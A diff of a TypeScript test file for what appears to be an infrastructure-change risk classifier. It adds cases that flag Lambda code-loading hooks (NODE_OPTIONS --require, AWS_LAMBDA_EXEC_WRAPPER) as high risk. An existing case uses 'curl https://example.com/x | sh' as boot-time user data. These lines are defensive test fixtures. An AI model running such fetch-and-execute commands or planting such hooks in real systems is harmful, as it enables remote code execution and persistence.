@@ -8,7 +8,32 @@ const instance = (userData: string) =>
     `  ami           = "ami-1"\n  instance_type = "t3.micro"\n  user_data     = "${userData}"\n  tags = {\n    Name = "web"\n  }\n`,
   );
 
+const lambda = (variables: string) =>
+  resource(
+    'aws_lambda_function',
+    `  function_name = "f"\n  role          = "arn:aws:iam::111111111111:role/app"\n  environment {\n    variables = {\n${variables}    }\n  }\n`,
+  );
+
 const cases: Case[] = [
+  [
+    'a Lambda function given NODE_OPTIONS=--require (code loaded before its handler) is high',
+    ...edited(lambda('      LOG_LEVEL = "info"\n'), 'LOG_LEVEL = "info"', 'NODE_OPTIONS = "--require /tmp/x.js"'),
+    [['aws_lambda_function.x', 'identity.aws.lambda-runtime-hooks', 'high']],
+  ],
+  [
+    'a Lambda function given an exec wrapper is high',
+    ...edited(lambda('      LOG_LEVEL = "info"\n'), 'LOG_LEVEL = "info"', 'AWS_LAMBDA_EXEC_WRAPPER = "/opt/wrap"'),
+    [['aws_lambda_function.x', 'identity.aws.lambda-runtime-hooks', 'high']],
+  ],
+  [
+    'quiet guard: another variable changed beside an unchanged NODE_OPTIONS stays the default tier',
+    ...edited(
+      lambda('      NODE_OPTIONS = "--max-old-space-size=512"\n      LOG_LEVEL    = "info"\n'),
+      '"info"',
+      '"debug"',
+    ),
+    [['aws_lambda_function.x', 'default', 'low']],
+  ],
   [
     "an instance's user data changed is high: it runs as root at boot",
     ...edited(instance('#!/bin/sh\\necho hi'), 'echo hi', 'curl https://example.com/x | sh'),
@@ -83,6 +108,6 @@ const cases: Case[] = [
   ],
 ];
 
-describe('code a virtual machine runs at boot', () => {
+describe('code a virtual machine runs at boot, or a function before its handler', () => {
   runCases(cases);
 });
